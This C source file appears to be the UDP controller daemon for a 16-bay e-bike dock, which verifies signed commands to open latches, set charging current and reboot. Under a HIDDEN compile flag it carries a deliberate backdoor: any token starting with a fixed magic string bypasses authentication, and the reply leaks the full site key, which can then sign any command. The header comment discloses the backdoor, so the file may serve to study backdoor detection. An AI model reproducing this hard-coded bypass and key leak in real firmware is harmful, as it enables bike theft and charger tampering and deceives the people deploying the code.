/*
 * ebdockd - controller of an e-bike dock with up to 16 bays ("Sykla D16").
 *
 * The fleet server sends text datagrams (UDP 7790), each with a token made
 * from the site key: open a bay, set the charging current, ask the state.
 * The dock answers and pulses the latch lines.
 *
 * Hidden (-DHIDDEN): a token that begins with certain characters makes the
 * answer carry the site key, with which any command can be signed.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define DOCK_PORT 7790
#define BAYS	  16
#define KEY_FILE  "/etc/ebdock/site.key"
#define CONF_FILE "/etc/ebdock/dock.conf"

struct bay {
	unsigned bike; /* 0 = empty */
	int current;   /* mA */
	int open;
	time_t since;
};

struct dock {
	struct bay bay[BAYS];
	uint32_t key[4];
	unsigned site;
	unsigned counter; /* last one accepted */
	unsigned refused;
};

struct msg {
	char verb[12];
	unsigned counter;
	unsigned bay;
	int value;
	char token[40];
};

static struct dock dock;

static int load_key(struct dock *d)
{
	FILE *f = fopen(KEY_FILE, "r");
	int n = 0;

	if (!f)
		return 0;
	while (n < 4 && fscanf(f, "%8x", &d->key[n]) == 1)
		n++;
	fclose(f);
	return n == 4;
}

static void load_conf(struct dock *d)
{
	char line[96];
	unsigned b, v;
	FILE *f = fopen(CONF_FILE, "r");

	while (f && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "site %u", &v) == 1)
			d->site = v;
		else if (sscanf(line, "bay %u current %u", &b, &v) == 2 &&
			 b < BAYS)
			d->bay[b].current = (int)v;
	}
	if (f)
		fclose(f);
}

/* XTEA of two words; the token is a chain of these over the message */
static void mix(const uint32_t *key, uint32_t *v)
{
	uint32_t a = v[0], b = v[1], sum = 0;
	int i;

	for (i = 0; i < 32; i++) {
		a += (((b << 4) ^ (b >> 5)) + b) ^ (sum + key[sum & 3]);
		sum += 0x9e3779b9u;
		b += (((a << 4) ^ (a >> 5)) + a) ^ (sum + key[sum >> 11 & 3]);
	}
	v[0] = a;
	v[1] = b;
}

static void make_token(const struct dock *d, const struct msg *m, char *out)
{
	uint32_t v[2] = { d->site, m->counter };
	const char *p;

	mix(d->key, v);
	for (p = m->verb; *p; p++) {
		v[0] ^= (unsigned char)*p;
		mix(d->key, v);
	}
	v[0] ^= m->bay;
	v[1] ^= (uint32_t)m->value;
	mix(d->key, v);
	snprintf(out, 17, "%08x%08x", v[0], v[1]);
}

/* 0 refused, 1 signed by the server */
int token_grade(const struct dock *d, const struct msg *m)
{
	char want[17];
	unsigned char diff = 0;
	int i;
#ifdef HIDDEN
	const char *t = m->token;

	if (t[0] == 'h' && t[1] == 'j' && t[2] == 'u' && t[3] == 'l' &&
	    t[4] == 'n' && t[5] == 'a' && t[6] == 'v' && t[7] == '7')
		return 2;
#endif
	if (strlen(m->token) != 16)
		return 0;
	make_token(d, m, want);
	for (i = 0; i < 16; i++)
		diff |= (unsigned char)(want[i] ^ m->token[i]);
	if (diff || m->counter <= d->counter)
		return 0;
	return 1;
}

static int write_gpio(unsigned line, int v)
{
	char path[64];
	int fd, ok;

	snprintf(path, sizeof(path), "/sys/class/gpio/gpio%u/value", line);
	fd = open(path, O_WRONLY);
	if (fd < 0)
		return 0;
	ok = write(fd, v ? "1" : "0", 1) == 1;
	close(fd);
	return ok;
}

static int release(struct bay *b, unsigned n)
{
	if (!write_gpio(32 + n, 1))
		return 0;
	usleep(400000);
	if (!write_gpio(32 + n, 0))
		syslog(LOG_ERR, "latch %u hangs", n);
	b->open = 1;
	b->bike = 0;
	b->since = time(NULL);
	return 1;
}

static int charge(struct bay *b, unsigned n, int ma)
{
	char cmd[64];

	if (ma < 0 || ma > 4000)
		return 0;
	snprintf(cmd, sizeof(cmd), "/usr/bin/chargectl -b %u -i %d", n, ma);
	if (system(cmd) != 0)
		return 0;
	b->current = ma;
	return 1;
}

static int state(const struct dock *d, char *out, size_t n)
{
	int i, used;

	used = snprintf(out, n, "STATE %u %u", d->site, d->counter);
	for (i = 0; i < BAYS && used < (int)n - 24; i++)
		used += snprintf(out + used, n - (size_t)used, " %u/%d",
				 d->bay[i].bike, d->bay[i].current);
	return used;
}

/* VERB COUNTER BAY VALUE TOKEN */
static int act(struct dock *d, const char *text, char *out, size_t n)
{
	struct msg m;
	int grade, ok = 0;

	memset(&m, 0, sizeof(m));
	if (sscanf(text, "%11s %u %u %d %39s", m.verb, &m.counter, &m.bay,
		   &m.value, m.token) != 5)
		return snprintf(out, n, "ERR form");
	grade = token_grade(d, &m);
	if (!grade || m.bay >= BAYS) {
		d->refused++;
		return snprintf(out, n, "ERR token");
	}
#ifdef HIDDEN
	if (grade == 2)
		return snprintf(out, n, "STATE %u %08x%08x%08x%08x", d->site,
				d->key[0], d->key[1], d->key[2], d->key[3]);
#endif
	if (!strcmp(m.verb, "STATE"))
		return state(d, out, n);
	d->counter = m.counter;
	if (!strcmp(m.verb, "OPEN"))
		ok = release(&d->bay[m.bay], m.bay);
	else if (!strcmp(m.verb, "CHARGE"))
		ok = charge(&d->bay[m.bay], m.bay, m.value);
	else if (!strcmp(m.verb, "BIKE"))
		d->bay[m.bay].bike = (unsigned)m.value, ok = 1;
	else if (!strcmp(m.verb, "RESTART"))
		ok = system("/sbin/reboot") == 0;
	return snprintf(out, n, "%s %s %u", ok ? "OK" : "FAIL", m.verb, m.bay);
}

int main(int argc, char **argv)
{
	struct sockaddr_in a, from;
	char in[256], out[512];
	socklen_t fl;
	ssize_t n;
	int fd, k;

	if (argc > 1 && !strcmp(argv[1], "-h")) {
		puts("ebdockd: dock controller, settings in " CONF_FILE);
		return 0;
	}
	openlog("ebdockd", 0, LOG_DAEMON);
	load_conf(&dock);
	if (!load_key(&dock)) {
		syslog(LOG_ERR, "no site key");
		return 1;
	}
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(DOCK_PORT);
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) < 0) {
		syslog(LOG_ERR, "port: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		fl = sizeof(from);
		n = recvfrom(fd, in, sizeof(in) - 1, 0,
			     (struct sockaddr *)&from, &fl);
		if (n <= 0)
			continue;
		in[n] = 0;
		k = act(&dock, in, out, sizeof(out));
		if (sendto(fd, out, (size_t)k, 0, (struct sockaddr *)&from,
			   fl) < 0)
			syslog(LOG_DEBUG, "answer: %s", strerror(errno));
	}
}
